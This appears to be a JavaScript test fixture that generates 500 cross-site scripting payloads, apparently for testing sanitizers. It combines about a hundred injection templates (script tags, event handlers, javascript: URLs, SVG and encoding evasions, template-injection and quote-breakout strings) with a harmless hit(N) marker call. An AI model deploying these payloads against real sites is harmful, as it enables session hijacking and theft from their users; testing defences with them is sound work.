// 500 texts that would run if any of them were ever put in as markup, style, address or code. Each calls hit(N).
const CALLS = [(n) => `hit(${n})`, (n) => `top.hit(${n})`, (n) => `window['hit'](${n})`, (n) => `hit\`${n}\``, (n) => `(hit)(${n})`];

const FORMS = [
  (c) => `<script>${c}</script>`, (c) => `<ScRiPt >${c}</sCrIpT>`, (c) => `<script src=data:text/javascript,${c}></script>`, (c) => `</textarea><script>${c}</script>`,
  (c) => `</title><script>${c}</script>`, (c) => `"><script>${c}</script>`, (c) => `'><script>${c}</script>`, (c) => `--><script>${c}</script>`, (c) => `]]><script>${c}</script>`,
  (c) => `<img src=x onerror=${c}>`, (c) => `<img src=x onerror="${c}">`, (c) => `"><img src=x onerror=${c}>`, (c) => `<img/src/onerror=${c}>`, (c) => `<IMG SRC=x oNeRrOr=${c}>`,
  (c) => `<image src=x onerror=${c}>`, (c) => `<svg onload=${c}>`, (c) => `<svg/onload=${c}//`, (c) => `<svg><script>${c}</script></svg>`, (c) => `<svg><animate onbegin=${c} attributeName=x dur=1s>`,
  (c) => `<svg><a xlink:href="javascript:${c}"><text y=20>x</text></a></svg>`, (c) => `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=${c}></svg>#x">`,
  (c) => `<math><mtext></mtext><mglyph><style><img src=x onerror=${c}>`, (c) => `<math href="javascript:${c}">x</math>`, (c) => `<body onload=${c}>`, (c) => `<body onpageshow=${c}>`,
  (c) => `<iframe src="javascript:${c}"></iframe>`, (c) => `<iframe srcdoc="<script>parent.${c}</script>"></iframe>`, (c) => `<object data="javascript:${c}"></object>`, (c) => `<embed src="javascript:${c}">`,
  (c) => `<a href="javascript:${c}" autofocus onfocus=${c} tabindex=1>x</a>`, (c) => `javascript:${c}`, (c) => `java\tscript:${c}`, (c) => `JaVaScRiPt:${c}//`, (c) => `\u0001javascript:${c}`, (c) => `data:text/html,<script>${c}</script>`,
  (c) => `vbscript:${c}`, (c) => `<input autofocus onfocus=${c}>`, (c) => `<select autofocus onfocus=${c}>`, (c) => `<textarea autofocus onfocus=${c}>`, (c) => `<details open ontoggle=${c}>`,
  (c) => `<video><source onerror=${c}></video>`, (c) => `<audio src=x onerror=${c}>`, (c) => `<marquee onstart=${c}>`, (c) => `<div style="background:url(javascript:${c})">`, (c) => `<style>@import'javascript:${c}';</style>`,
  (c) => `<link rel=stylesheet href="javascript:${c}">`, (c) => `<meta http-equiv=refresh content="0;url=javascript:${c}">`, (c) => `<base href="javascript:${c}//">`, (c) => `<form action="javascript:${c}"><button autofocus onfocus=${c}>x`,
  (c) => `<button popovertarget=x onbeforetoggle=${c}>`, (c) => `<p id=x popover ontoggle=${c}>`, (c) => `<xss onfocus=${c} autofocus tabindex=1>`, (c) => `<template><script>${c}</script></template>`, (c) => `<noscript><p title="</noscript><img src=x onerror=${c}>">`,
  (c) => `<!--<img src="--><img src=x onerror=${c}//">`, (c) => `<![CDATA[<img src=x onerror=${c}>]]>`, (c) => `<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">${c}</script>`,
  (c) => `{{constructor.constructor('${c}')()}}`, (c) => `\${${c}}`, (c) => `{@html "<img src=x onerror=${c}>"}`, (c) => `#{${c}}`, (c) => `<%= ${c} %>`, (c) => `';${c};//`, (c) => `";${c};//`, (c) => `\\";${c};//`, (c) => `\`;${c};//`,
  (c) => `&lt;script&gt;${c}&lt;/script&gt;`, (c) => `&#60;img src=x onerror=${c}&#62;`, (c) => `%3Cscript%3E${c}%3C/script%3E`, (c) => `\\u003cimg src=x onerror=${c}\\u003e`, (c) => `＜script＞${c}＜/script＞`,
  (c) => `<scr\u0000ipt>${c}</scr\u0000ipt>`, (c) => `<img src="x\` \`<script>${c}</script>"\` \`>`, (c) => `\u202e<img src=x onerror=${c}>\u202c`, (c) => `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${c}</x:script>`,
  (c) => `x" onmouseover="${c}" autofocus onfocus="${c}`, (c) => `x' onmouseover='${c}' autofocus onfocus='${c}`, (c) => `x onmouseover=${c} onfocus=${c} autofocus `, (c) => `__proto__[innerHTML]=<img src=x onerror=${c}>`,
  (c) => `<a ping="javascript:${c}" href=x>x</a>`, (c) => `<isindex type=image src=x onerror=${c}>`, (c) => `<frameset onload=${c}>`, (c) => `<table background="javascript:${c}">`, (c) => `<b style="width:expression(${c})">`,
  (c) => `<img src=x:x onerror\u000b=${c}>`, (c) => `<img src=x onerror\n=\n${c}\n>`, (c) => `<svg><desc><![CDATA[</desc><script>${c}</script>]]></svg>`, (c) => `<svg><foreignObject><iframe src="javascript:${c}">`,
  (c) => `<svg><set attributeName=onmouseover to=${c}>`, (c) => `<svg><image href=x onerror=${c}>`, (c) => `<dialog open onclose=${c}><form method=dialog><button autofocus>`, (c) => `<input type=image src=x onerror=${c}>`, (c) => `<track default src=x onerror=${c}>`,
  (c) => `<a href=" javascript:${c}" autofocus>x</a>`, (c) => `<link rel=preload as=image href=x onerror=${c}>`,
  (c) => `<script type=module>${c}</script>`, (c) => `<script>/**/${c}/*</script>*/`, (c) => `<script>{${c}}</script//>`, (c) => `\ufeff<script>${c}</script>`, (c) => `<img src=x onerror=eval(atob(/${Buffer.from("hit(0)").toString("base64")}/.source))>${c}`,
];

export const PAYLOADS = FORMS.flatMap((form, f) => CALLS.map((call, c) => form(call(f * CALLS.length + c)))).slice(0, 500);
